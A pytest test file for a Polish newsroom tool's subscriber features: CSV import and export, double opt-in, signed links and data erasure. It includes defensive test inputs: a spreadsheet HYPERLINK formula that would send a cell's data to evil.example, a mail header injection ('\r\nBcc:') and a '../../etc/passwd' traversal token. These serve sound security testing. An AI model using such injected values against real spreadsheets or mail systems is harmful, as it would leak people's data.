"""Subscribers: operator adds and CSV imports, the web flow (request, confirm, unsubscribe, preferences,
erase), signed links, and erasure that leaves no personal data behind."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from newsroom_feed.cli import main
from newsroom_feed.errors import InputError, NotFound, SubscriberNotFound
from newsroom_feed.mail import outbox
from newsroom_feed.people.subscriber_csv import CSV_HEADER, export_subscribers, import_subscribers
from newsroom_feed.people.subscriptions import (
    add_subscriber,
    confirm,
    erase,
    get_subscriber,
    link_token,
    list_subscribers,
    remove_subscriber,
    request_subscription,
    resolve,
    unsubscribe,
    update_preferences,
)
from newsroom_feed.settings import Settings
from newsroom_feed.store.database import Store

HEADER = ",".join(CSV_HEADER)
CONSENT = "Zgadzam się na otrzymywanie informacji prasowych."


def cli(settings: Settings, *args: str) -> int:
    return main(["--database", str(settings.database), *args])


# -- operator adds ----------------------------------------------------------------------------------


def test_operator_added_subscriber_is_active_at_once_with_operator_consent(
    store: Store, now: datetime
) -> None:
    added = add_subscriber(
        store,
        {"email": "Ania.Kowalska@Example.PL", "name": "Anna Żółkiewska", "kind": "city",
         "organization": "Urząd Miasta Łodzi", "categories": ["kultura", "sport"], "frequency": "daily",
         "language": "pl"},
        now,
    )  # fmt: skip
    assert added.status == "active"
    assert added.consent_source == "operator"
    assert added.confirmed_at == now
    assert added.email == "Ania.Kowalska@example.pl"
    assert added.categories == ("kultura", "sport")
    assert {category.slug for category in store.categories()} == {"kultura", "sport"}


def test_double_opt_in_subscriber_is_pending_until_confirmed(store: Store, now: datetime) -> None:
    added = add_subscriber(store, {"email": "jan@example.pl"}, now, double_opt_in=True)
    assert added.status == "pending"
    assert added.confirmed_at is None
    assert confirm(store, added.token, now).status == "active"


def test_an_address_is_unique_whatever_its_case(store: Store, now: datetime) -> None:
    add_subscriber(store, {"email": "jan@example.pl"}, now)
    with pytest.raises(InputError) as caught:
        add_subscriber(store, {"email": "JAN@example.PL"}, now)
    assert caught.value.field == "email"
    assert len(list_subscribers(store)) == 1


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"email": "jan@@example.pl"}, "email"),
        ({"email": "jan kowalski@example.pl"}, "email"),
        ({"email": ""}, "email"),
        ({"email": "jan@example.pl", "kind": "reporter"}, "kind"),
        ({"email": "jan@example.pl", "frequency": "hourly"}, "frequency"),
        ({"email": "jan@example.pl", "language": "de"}, "language"),
        ({"email": "jan@example.pl", "categories": ["Kultura i Sztuka"]}, "categories"),
        ({"email": "jan@example.pl", "name": "Jan\r\nBcc: x@example.pl"}, "name"),
        ({"email": "jan@example.pl", "phone": "123"}, "phone"),
    ],
)
def test_bad_subscriber_input_names_the_field(
    store: Store, now: datetime, data: dict[str, object], field: str
) -> None:
    with pytest.raises(InputError) as caught:
        add_subscriber(store, data, now)
    assert caught.value.field == field
    assert list_subscribers(store) == []


def test_cli_add_then_list_json_prints_the_contract_fields(
    settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    options = ["--name", "Anna Nowak", "--kind", "journalist", "--organization", "Gazeta",
               "--category", "kultura", "--frequency", "weekly", "--language", "en"]  # fmt: skip
    assert cli(settings, "subscriber", "add", "ania@example.pl", *options) == 0
    assert cli(settings, "subscriber", "add", "jan@example.pl", "--double-opt-in") == 0
    capsys.readouterr()
    assert cli(settings, "subscriber", "list", "--json") == 0
    listed = json.loads(capsys.readouterr().out)
    assert [set(item) for item in listed] == [
        {"email", "name", "kind", "organization", "categories", "frequency", "language", "status",
         "created_at", "confirmed_at"}
    ] * 2  # fmt: skip
    assert listed[0]["categories"] == ["kultura"]
    assert (listed[0]["status"], listed[1]["status"]) == ("active", "pending")
    assert listed[1]["confirmed_at"] is None
    assert cli(settings, "subscriber", "list", "--json", "--status", "pending") == 0
    assert [item["email"] for item in json.loads(capsys.readouterr().out)] == ["jan@example.pl"]
    with Store(settings.database) as store:
        rows = outbox.list_rows(store)
    assert [(row.kind, row.email) for row in rows] == [("confirmation", "jan@example.pl")]


def test_cli_add_of_a_bad_address_exits_2_naming_the_field(
    settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(settings, "subscriber", "add", "not-an-address") == 2
    assert "email" in capsys.readouterr().err


def confirmations(store: Store) -> list[tuple[str, str | None]]:
    return [(row.kind, row.email) for row in outbox.list_rows(store) if row.kind == "confirmation"]


def test_cli_double_opt_in_leaves_a_pending_subscriber_with_exactly_one_confirmation_queued(
    settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(settings, "subscriber", "add", "jan@example.pl", "--double-opt-in") == 0
    assert cli(settings, "subscriber", "add", "nie-adres", "--double-opt-in") == 2
    assert "email" in capsys.readouterr().err
    with Store(settings.database) as store:
        assert [(s.email, s.status) for s in list_subscribers(store)] == [("jan@example.pl", "pending")]
        assert [(row.kind, row.email) for row in outbox.list_rows(store)] == [
            ("confirmation", "jan@example.pl")
        ]


def test_cli_import_with_double_opt_in_queues_one_confirmation_per_imported_row_only(
    settings: Settings, tmp_path: Path
) -> None:
    path = write(tmp_path, BAD_FILE)
    assert cli(settings, "subscriber", "import", str(path), "--double-opt-in") == 1
    assert cli(settings, "subscriber", "import", str(path), "--double-opt-in") == 1
    with Store(settings.database) as store:
        assert {s.status for s in list_subscribers(store)} == {"pending"}
        assert sorted(confirmations(store)) == [
            ("confirmation", "ania@example.pl"), ("confirmation", "ola@example.pl"),
        ]  # fmt: skip


def test_a_pending_subscriber_and_its_confirmation_are_written_together_or_not_at_all(
    store: Store, now: datetime
) -> None:
    """A failure while queueing the confirmation (as a crash would) leaves no pending address behind."""
    store.conn.execute(
        "CREATE TEMP TRIGGER outbox_full BEFORE INSERT ON outbox BEGIN SELECT RAISE(ABORT, 'disk full'); END"
    )
    row = f"{HEADER}\nola@example.pl,Ola,other,,,weekly,en\n"
    for attempt in (
        lambda: add_subscriber(store, {"email": "jan@example.pl"}, now, double_opt_in=True),
        lambda: request_subscription(store, web_data(), now),
        lambda: import_subscribers(store, row, now, double_opt_in=True),
    ):
        with pytest.raises(sqlite3.IntegrityError, match="disk full"):
            attempt()
    assert list_subscribers(store) == []


# -- CSV import and export --------------------------------------------------------------------------


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "subscribers.csv"
    path.write_text(text, encoding="utf-8")
    return path


BAD_FILE = (
    f"{HEADER}\n"
    "ania@example.pl,Anna Nowak,journalist,Gazeta Łódzka,kultura;sport,daily,pl\n"  # line 2: good
    "not-an-address,Jan,journalist,,,immediate,pl\n"  # line 3: bad address
    '"marek@example.pl","Marek\nz dwóch linii",other,,,weekly,en\n'  # lines 4-5: a line break in a name
    "ola@example.pl,Ola,other,,,weekly,en\n"  # line 6: good
    "ANIA@example.pl,Anna again,journalist,,,daily,pl\n"  # line 7: duplicate of line 2
    "\n"
    "piotr@example.pl,Piotr,reporter,,nowa-kategoria,daily,pl\n"  # line 9: bad kind
    "ewa@example.pl,Ewa,city\n"  # line 10: too few fields
    "urzad@lodz.example.pl,,city,Urząd Miasta Łodzi,,hourly,pl\n"  # line 11: bad frequency
)


def test_import_reports_each_bad_row_by_the_line_it_starts_on_and_imports_the_good_ones(
    store: Store, now: datetime
) -> None:
    result = import_subscribers(store, BAD_FILE, now)
    assert [subscriber.email for subscriber in result.imported] == ["ania@example.pl", "ola@example.pl"]
    assert [(error.line, error.field) for error in result.rejected] == [
        (3, "email"), (4, "name"), (7, "email"), (9, "kind"), (10, ""), (11, "frequency"),
    ]  # fmt: skip
    assert "duplicates line 2" in str(result.rejected[2])
    assert str(result.rejected[0]).startswith("line 3: email:")
    assert "has 3 fields" in str(result.rejected[4])


def test_a_rejected_row_leaves_nothing_behind(store: Store, now: datetime) -> None:
    """Not even the category it named: each row goes in whole or not at all."""
    import_subscribers(store, BAD_FILE, now)
    assert {category.slug for category in store.categories()} == {"kultura", "sport"}
    emails = {subscriber.email for subscriber in list_subscribers(store)}
    assert emails == {"ania@example.pl", "ola@example.pl"}


def test_cli_import_prints_one_line_per_rejected_row_and_exits_1_and_twice_changes_nothing(
    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, BAD_FILE)
    assert cli(settings, "subscriber", "import", str(path)) == 1
    err = capsys.readouterr().err
    rejected = [line for line in err.splitlines() if line.startswith("rejected:")]
    assert [line.split(":")[1].strip() for line in rejected] == [
        "line 3", "line 4", "line 7", "line 9", "line 10", "line 11",
    ]  # fmt: skip
    assert "Imported 2, skipped 0" in err
    assert cli(settings, "subscriber", "import", str(path)) == 1
    assert "Imported 0, skipped 2 already subscribed, rejected 6" in capsys.readouterr().err
    with Store(settings.database) as store:
        assert len(list_subscribers(store)) == 2


def test_a_clean_import_exits_0(settings: Settings, tmp_path: Path) -> None:
    path = write(tmp_path, f"\ufeff{HEADER}\r\njan@example.pl,Jan,journalist,,,,\r\n")
    assert cli(settings, "subscriber", "import", str(path)) == 0
    with Store(settings.database) as store:
        jan = get_subscriber(store, "jan@example.pl")
    assert (jan.status, jan.frequency, jan.language, jan.categories) == ("active", "immediate", "pl", ())


@pytest.mark.parametrize(
    "text",
    ["email,name\njan@example.pl,Jan\n", "", f"{HEADER},extra\njan@example.pl,Jan,other,,,daily,pl,x\n"],
)
def test_a_file_with_another_header_imports_nothing_and_exits_2(
    settings: Settings, tmp_path: Path, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(settings, "subscriber", "import", str(write(tmp_path, text))) == 2
    assert "header" in capsys.readouterr().err
    with Store(settings.database) as store:
        assert list_subscribers(store) == []


def test_export_writes_the_import_header_and_round_trips(
    store: Store, settings: Settings, tmp_path: Path, now: datetime
) -> None:
    import_subscribers(store, BAD_FILE, now)
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        assert export_subscribers(store, handle) == 2
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == HEADER
    with Store(tmp_path / "other.db") as other:
        result = import_subscribers(other, text, now)
        assert result.rejected == []

        def shape(found: Store) -> list[tuple[object, ...]]:
            return [
                (s.email, s.name, s.kind, s.organization, s.categories, s.frequency, s.language)
                for s in list_subscribers(found)
            ]

        assert shape(other) == shape(store)


def test_subscriber_export_writes_the_import_csv_to_the_output_file(
    settings: Settings, tmp_path: Path
) -> None:
    assert cli(settings, "subscriber", "add", "ania@example.pl", "--category", "kultura") == 0
    out = tmp_path / "out.csv"
    assert cli(settings, "subscriber", "export", "--output", str(out)) == 0
    assert out.read_text(encoding="utf-8").splitlines() == [
        HEADER, "ania@example.pl,,other,,kultura,immediate,pl",
    ]  # fmt: skip


FORMULAS = (
    '=HYPERLINK("https://evil.example/?q="&A1,"Kliknij")',
    "-Kowalska",
    "+48 61 000 00 00",
    "@SUM(A1:A9)",
    "'Asia",  # a quote typed by the person survives the round trip too
)


def test_export_neutralises_spreadsheet_formulas_and_import_gives_back_the_values(
    store: Store, tmp_path: Path, now: datetime
) -> None:
    """OWASP CSV injection: a name typed on the web form must not run as a formula in a spreadsheet."""
    for n, name in enumerate(FORMULAS):
        add_subscriber(store, {"email": f"osoba{n}@example.pl", "name": name, "organization": name}, now)
    add_subscriber(store, {"email": "-minus@example.pl", "name": "Zwykła Nazwa"}, now)
    out = io.StringIO()
    export_subscribers(store, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = [row[1] for row in rows]
    assert names[:5] == [f"'{name}" for name in FORMULAS]
    assert rows[5][:2] == ["'-minus@example.pl", "Zwykła Nazwa"]
    with Store(tmp_path / "other.db") as other:
        result = import_subscribers(other, out.getvalue(), now)
        assert result.rejected == []
        assert [(s.email, s.name, s.organization) for s in list_subscribers(other)] == [
            (s.email, s.name, s.organization) for s in list_subscribers(store)
        ]
        assert get_subscriber(other, "osoba1@example.pl").name == "-Kowalska"


# -- the web flow -----------------------------------------------------------------------------------


def web_data(email: str = "ania@example.pl", **more: object) -> dict[str, object]:
    return {"email": email, "name": "Anna", "consent_text": CONSENT, **more}


def test_a_web_request_creates_a_pending_subscriber_and_asks_for_one_confirmation(
    store: Store, now: datetime
) -> None:
    request = request_subscription(store, web_data(categories=["kultura"]), now)
    assert request.send_confirmation
    assert request.confirmation_key
    assert confirmations(store) == [("confirmation", "ania@example.pl")]
    assert request.subscriber.status == "pending"
    assert request.subscriber.consent_source == "web"
    assert request.subscriber.consent_text == CONSENT


def test_a_web_request_needs_the_consent_text(store: Store, now: datetime) -> None:
    with pytest.raises(InputError) as caught:
        request_subscription(store, {"email": "ania@example.pl"}, now)
    assert caught.value.field == "consent_text"


def test_asking_again_sends_at_most_one_confirmation_per_hour(store: Store, now: datetime) -> None:
    first = request_subscription(store, web_data(), now)
    again = request_subscription(store, web_data("ANIA@example.pl"), now + timedelta(minutes=59))
    later = request_subscription(store, web_data(), now + timedelta(minutes=61))
    assert (first.send_confirmation, again.send_confirmation, later.send_confirmation) == (True, False, True)
    assert later.confirmation_key != first.confirmation_key
    assert len(list_subscribers(store)) == 1
    assert len(confirmations(store)) == 2, "one queued by the first request, one by the later"


def test_asking_for_an_active_address_changes_nothing_about_it(store: Store, now: datetime) -> None:
    active = add_subscriber(store, {"email": "ania@example.pl", "frequency": "weekly"}, now)
    request = request_subscription(store, web_data(frequency="immediate"), now)
    assert request.send_confirmation  # the owner of the mailbox may use the mail; nobody else learns
    assert get_subscriber(store, active.id).frequency == "weekly"
    assert get_subscriber(store, active.id).status == "active"


def test_a_signed_link_resolves_to_its_subscriber_only_for_its_purpose(
    store: Store, settings: Settings, now: datetime
) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl"}, now)
    jan = add_subscriber(store, {"email": "jan@example.pl"}, now)
    links = {purpose: link_token(settings, ania, purpose, now) for purpose in ("unsubscribe", "preferences")}
    assert links["unsubscribe"] != links["preferences"]
    assert link_token(settings, ania, "unsubscribe") != link_token(settings, jan, "unsubscribe")
    assert resolve(store, settings, links["unsubscribe"], "unsubscribe").id == ania.id
    assert resolve(store, settings, links["preferences"], "preferences").id == ania.id
    with pytest.raises(NotFound):
        resolve(store, settings, links["unsubscribe"], "preferences")


@pytest.mark.parametrize(
    "forge",
    [
        lambda signed: signed[:-2] + ("AA" if not signed.endswith("AA") else "BB"),
        lambda signed: signed.split(".")[0],
        lambda signed: "x" + signed,
        lambda signed: "",
        lambda signed: "../../etc/passwd",
    ],
)
def test_a_forged_link_is_refused_with_the_same_answer_as_an_unknown_one(
    store: Store, settings: Settings, now: datetime, forge: object
) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl"}, now)
    signed = link_token(settings, ania, "unsubscribe")
    with pytest.raises(NotFound) as caught:
        resolve(store, settings, forge(signed), "unsubscribe")  # type: ignore[operator]
    remove_subscriber(store, "ania@example.pl")
    with pytest.raises(NotFound) as erased:
        resolve(store, settings, signed, "unsubscribe")
    assert str(caught.value) == str(erased.value)


def test_a_confirmation_link_works_for_seven_days(store: Store, settings: Settings, now: datetime) -> None:
    request = request_subscription(store, web_data(), now)
    signed = link_token(settings, request.subscriber, "confirm", now)
    with pytest.raises(NotFound, match="expired"):
        resolve(store, settings, signed, "confirm", now + timedelta(days=7, seconds=1))
    found = resolve(store, settings, signed, "confirm", now + timedelta(days=6))
    confirmed = confirm(store, found.token, now + timedelta(days=6))
    assert (confirmed.status, confirmed.confirmed_at) == ("active", now + timedelta(days=6))
    assert (
        confirm(store, found.token, now + timedelta(days=6, hours=1)).confirmed_at == confirmed.confirmed_at
    )


def test_an_unsubscribe_link_still_works_years_later(store: Store, settings: Settings, now: datetime) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl"}, now)
    signed = link_token(settings, ania, "unsubscribe", now)
    assert resolve(store, settings, signed, "unsubscribe", now + timedelta(days=3650)).id == ania.id


def test_unsubscribe_is_immediate_idempotent_and_drops_queued_mail(store: Store, now: datetime) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl"}, now)
    outbox.enqueue(store, [outbox.NewMessage(ania.id, "alert:tag:x", "alert", (1,))], now)
    first = unsubscribe(store, ania.token, now)
    second = unsubscribe(store, ania.token, now + timedelta(hours=1))
    assert (first.status, first.unsubscribed_at) == ("unsubscribed", now)
    assert second.unsubscribed_at == now
    assert outbox.list_rows(store) == []


def test_preferences_change_and_bad_changes_change_nothing(store: Store, now: datetime) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl", "categories": ["kultura"]}, now)
    changed = update_preferences(
        store,
        ania.token,
        {"categories": ["sport", "gospodarka"], "frequency": "weekly", "language": "en"},
        now,
    )
    assert (changed.categories, changed.frequency, changed.language) == (
        ("gospodarka", "sport"),
        "weekly",
        "en",
    )
    with pytest.raises(InputError) as caught:
        update_preferences(store, ania.token, {"frequency": "hourly", "language": "pl"}, now)
    assert caught.value.field == "frequency"
    with pytest.raises(InputError) as refused:
        update_preferences(store, ania.token, {"email": "other@example.pl"}, now)
    assert refused.value.field == "email"
    assert get_subscriber(store, ania.id).language == "en"


# -- erasure ----------------------------------------------------------------------------------------


def test_preferences_save_even_when_a_stored_name_has_a_control_character(
    store: Store, now: datetime
) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl", "organization": "Gazeta"}, now)
    with store.transaction():  # as an older version or an outside writer left it
        store.conn.execute("UPDATE subscribers SET name = ? WHERE id = ?", ("Anna\x07Nowak", ania.id))
    changed = update_preferences(
        store, ania.token, {"categories": ["sport"], "frequency": "daily", "language": "en"}, now
    )
    assert (changed.categories, changed.frequency, changed.language) == (("sport",), "daily", "en")
    assert (changed.name, changed.organization, changed.kind) == ("Anna\x07Nowak", "Gazeta", "other")
    with pytest.raises(InputError) as caught:
        update_preferences(store, ania.token, {"name": "Anna\tNowak"}, now)
    assert caught.value.field == "name"  # a new name is still checked


def _rows_mentioning(path: Path, needle: str) -> list[str]:
    conn = sqlite3.connect(path)
    found = []
    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
        for row in conn.execute(f"SELECT * FROM {table}"):
            if any(isinstance(value, str) and needle.lower() in value.lower() for value in row):
                found.append(f"{table}: {row}")
    conn.close()
    return found


def test_remove_erases_every_trace_of_the_address_and_keeps_anonymous_counts(
    settings: Settings, store: Store, now: datetime, capsys: pytest.CaptureFixture[str]
) -> None:
    ania = add_subscriber(
        store, {"email": "ania.erased@example.pl", "name": "Anna Usunięta", "organization": "Gazeta X"}, now
    )
    outbox.enqueue(
        store,
        [
            outbox.NewMessage(ania.id, "alert:tag:one", "alert", (1,)),
            outbox.NewMessage(ania.id, "alert:tag:two", "alert", (2,)),
        ],
        now,
    )
    with store.transaction():
        store.conn.execute(
            "UPDATE outbox SET status = 'sent', last_error = '550 <ANIA.ERASED@example.pl> unknown' "
            "WHERE key = 'alert:tag:one'"
        )
        store.conn.execute(
            "INSERT INTO deliveries (outbox_id, attempt, at, code, reply, outcome) SELECT id, 1, ?, 550, "
            "'5.1.1 <ania.erased@example.pl>: Recipient address rejected', 'permanent' FROM outbox "
            "WHERE key = 'alert:tag:one'",
            ("2026-11-26T09:30:00Z",),
        )
    assert cli(settings, "subscriber", "remove", "ANIA.erased@example.pl") == 0
    assert "erased" in capsys.readouterr().out
    assert _rows_mentioning(settings.database, "ania.erased") == []
    assert _rows_mentioning(settings.database, "Usunięta") == []
    rows = outbox.list_rows(store)
    assert [(row.key, row.status, row.email) for row in rows] == [("alert:tag:one", "sent", None)]
    with pytest.raises(SubscriberNotFound):
        get_subscriber(store, "ania.erased@example.pl")
    store.conn.execute("VACUUM")
    store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert b"ania.erased" not in settings.database.read_bytes().lower()


def test_erase_from_a_preferences_link_and_the_link_is_dead_afterwards(
    store: Store, settings: Settings, now: datetime
) -> None:
    ania = add_subscriber(store, {"email": "ania@example.pl"}, now)
    signed = link_token(settings, ania, "preferences")
    erase(store, resolve(store, settings, signed, "preferences").token)
    assert list_subscribers(store) == []
    with pytest.raises(NotFound):
        resolve(store, settings, signed, "preferences")
    with pytest.raises(NotFound):
        erase(store, ania.token)


def test_removing_an_unknown_address_exits_1(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(settings, "subscriber", "remove", "nobody@example.pl") == 1
    assert "nobody@example.pl" in capsys.readouterr().err
